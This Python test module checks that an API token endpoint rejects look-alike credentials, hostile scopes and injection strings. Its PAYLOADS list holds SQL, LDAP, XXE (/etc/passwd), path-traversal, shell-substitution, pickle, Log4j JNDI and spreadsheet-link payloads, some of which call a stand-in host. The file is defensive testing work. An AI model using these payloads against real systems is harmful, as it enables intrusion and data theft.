"""Invalid credentials and scopes in valid bodies."""

import json
from base64 import b64encode
from urllib.parse import urlencode

import pytest

from tests.support.hostile import FORBIDDEN, INVALID, fault, refused, refused_by_us, rows, send
from tests.support.hostile_spellings import DOMAIN, FULLWIDTH
from tests.support.messages import CREDENTIALS, NOT_SCOPES
from tests.support.requests import FORM, TOKEN_URL, body

pytestmark = pytest.mark.usefixtures("unlimited")

DOMAINS = {
    "full width": lambda domain: domain.translate(FULLWIDTH),
    "letter in a circle": lambda domain: domain.replace("e", "ⓔ"),
    "Kelvin sign": lambda domain: domain.replace("k", "\u212a"),
    "long s": lambda domain: domain.replace("s", "\u017f"),
    "Cyrillic": lambda domain: domain.replace("o", "\u043e"),
    "combining accent": lambda domain: domain.replace("e", "e\u0301"),
    "zero width": lambda domain: domain.replace("k", "k\u200b"),
    "soft hyphen": lambda domain: domain.replace("k", "k\u00ad"),
    "right to left": lambda domain: f"\u202e{domain[::-1]}",
    "ideographic full stop": lambda domain: domain.replace(".", "\u3002"),
    "two full stops at the end": lambda domain: f"{domain}..",
    "full stop at the beginning": lambda domain: f".{domain}",
    "two full stops": lambda domain: domain.replace(".", "..", 1),
    "punycode": lambda domain: f"xn--{domain}-",
    "wildcard": lambda domain: domain.replace("kiosk", "*"),
    "parent": lambda domain: domain.partition(".")[2],
    "child": lambda domain: f"www.{domain}",
    "colon": lambda domain: f"{domain}:",
    "port of a letter": lambda domain: f"{domain}:x",
    "port of six digits": lambda domain: f"{domain}:123456",
    "port in Arabic digits": lambda domain: f"{domain}:\u0668\u0660",
    "two ports": lambda domain: f"{domain}:80:80",
    "port before the full stop": lambda domain: f"{domain}:80.",
    "only a port": lambda domain: ":80",
    "IPv6": lambda domain: "[::1]",
    "IPv6 and a port": lambda domain: "[::1]:8888",
    "URL": lambda domain: f"https://{domain}/",
    "user": lambda domain: f"zebra7@{domain}",
    "newline": lambda domain: f"{domain}\n",
    "escape": lambda domain: domain.replace(".", "%2e"),
    "list": lambda domain: f"{domain},{domain}",
}

PUBLIC_KEYS = {
    "upper case": str.upper,
    "space at the end": lambda public_key: f"{public_key} ",
    "spaces at both ends": lambda public_key: f" {public_key} ",
    "newline": lambda public_key: f"{public_key}\n",
    "no-break space": lambda public_key: f"{public_key}\u00a0",
    "accent": lambda public_key: public_key.replace("k", "\u1e31", 1),
    "accent on its own": lambda public_key: public_key.replace("k", "k\u0301", 1),
    "full width": lambda public_key: public_key.translate(FULLWIDTH),
    "ignored by collations": lambda public_key: f"{public_key}\u00ad\u200d\ufeff",
    "outside the BMP": lambda public_key: f"{public_key}\U0001f993",
    "wildcard": lambda public_key: "pk_live_tot_%",
    "wildcards": lambda public_key: "_" * len(public_key),
    "regular expression": lambda public_key: "^pk.*$",
    "list": lambda public_key: f"{public_key},{public_key}",
    "in quotes": lambda public_key: f'"{public_key}"',
}

SECRETS = {
    "upper case": str.upper,
    "newline": lambda secret: f"{secret}\n",
    "all but its end": lambda secret: secret[:-1],
    "only its end": lambda secret: secret[-4:],
    "twice": lambda secret: secret * 2,
    "Base64": lambda secret: b64encode(secret.encode()).decode(),
    "full width": lambda secret: secret.translate(FULLWIDTH),
    "zero width": lambda secret: f"{secret}\u200b",
    "in quotes": lambda secret: f"'{secret}'",
    "with its scheme": lambda secret: f"Bearer {secret}",
    "wildcard": lambda secret: "sk_live_tot_%",
}

PAYLOADS = {
    "SQL": "' OR '1'='1' -- ",
    "SQL, stacked": "x'; DELETE FROM tot_jwt_apikey; --",
    "SQL, with a backslash": "\\' OR 1=1 #",
    "LDAP": "*)(uid=*))(|(uid=*",
    "XPath": "' or ''='",
    "format string of C": "%s%s%n%x",
    "format string of Python": "{0.__class__.__init__.__globals__}",
    "placeholder of a database": "%(public_key)s",
    "template": "{{7*7}}${7*7}<%= 7*7 %>",
    "newline and a header": "zebra7\r\nSet-Cookie: zebra7=1\r\n\r\n",
    "newline and a log line": "zebra7\nTokens issued: key=pk_live_admin",
    "terminal": "\x1b]0;zebra7\x07\x1b[2J",
    "Log4j": "${jndi:ldap://zebra7.example.com/a}",
    "script": "<script>alert('zebra7')</script>",
    "XML": '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]><x>&x;</x>',
    "path": "../../../../etc/passwd",
    "shell": "$(touch /tmp/zebra7)`touch /tmp/zebra7`",
    "pickle": "cos\nsystem\n(S'true'\ntR.",
    "spreadsheet": '=HYPERLINK("https://zebra7.example.com")',
    "word that means null": "None",
    "slow regular expression": "a-" * 63 + "!",
}

SPELLINGS = {
    **{f"domain: {name}": ("appDomain", bend) for name, bend in DOMAINS.items()},
    **{f"public key: {name}": ("totApiKey", bend) for name, bend in PUBLIC_KEYS.items()},
    **{f"secret: {name}": ("totSecretKey", bend) for name, bend in SECRETS.items()},
}


def responses_everywhere(key, **credentials):
    """Yield the responses to the credentials in JSON and in a form, exchanged and used directly."""
    sent = body(key, **credentials)
    for path in (TOKEN_URL, "/keys-only"):
        yield send("POST", path, json.dumps(sent).encode())
        yield send("POST", path, urlencode(sent).encode(), content_type=FORM)


@pytest.mark.req("B4", "B5", "C4", "C5")
@pytest.mark.usefixtures("nothing_changes")
@pytest.mark.parametrize(("field", "bend"), rows(SPELLINGS))
def test_similar_credentials_are_rejected(good, field, bend):
    bent = {field: bend(body(good.key)[field])}

    assert all(refused(answer, INVALID, good) for answer in responses_everywhere(good.key, **bent))


@pytest.mark.req("B4", "B5", "C5")
@pytest.mark.usefixtures("nothing_changes")
@pytest.mark.parametrize("field", CREDENTIALS)
@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)
def test_injection_payload_is_rejected(good, field, payload):
    assert all(
        refused(answer, INVALID, good)
        for answer in responses_everywhere(good.key, **{field: payload})
    )


def test_upper_case_domain_is_accepted(good):
    assert [
        answer.status_code for answer in responses_everywhere(good.key, appDomain=DOMAIN.upper())
    ] == [200] * 4


SCOPES = {
    "tab between": ("orders:read\tkeys:manage", fault("scopes", told=NOT_SCOPES)),
    "newline": ("orders:read\n", fault("scopes", told=NOT_SCOPES)),
    "no-break space between": ("orders:read\u00a0keys:manage", fault("scopes", told=NOT_SCOPES)),
    "NUL": ("orders:read\0", fault("scopes", told=NOT_SCOPES)),
    "surrogate": (["orders:read\ud800"], fault("scopes", told=NOT_SCOPES)),
    "list in a list": ([["orders:read"]], fault("scopes", told=NOT_SCOPES)),
    "null in a list": (["orders:read", None], fault("scopes", told=NOT_SCOPES)),
    "two in one": (["orders:read keys:manage"], fault("scopes", told=NOT_SCOPES)),
    "full width": ("orders:read".translate(FULLWIDTH), fault("scopes", told=NOT_SCOPES)),
    "object": ({"orders:read": True}, fault("scopes", told=NOT_SCOPES)),
    "upper case": ("ORDERS:READ", FORBIDDEN),
    "wildcard": ("*", FORBIDDEN),
    "wildcard of a resource": ("orders:*", FORBIDDEN),
    "commas": ("orders:read,keys:manage", FORBIDDEN),
    "2,000 of them": (["zebra7"] * 700 + ["orders:read"], FORBIDDEN),
    "as long as fits": ("z" * 7900, FORBIDDEN),
}


@pytest.mark.req("B4", "C5")
@pytest.mark.usefixtures("nothing_changes")
@pytest.mark.parametrize(("scopes", "expected"), rows(SCOPES))
def test_hostile_scopes_are_not_granted(good, scopes, expected):
    assert refused_by_us(send("POST", sent=good.json_with(scopes=scopes)), expected, good)
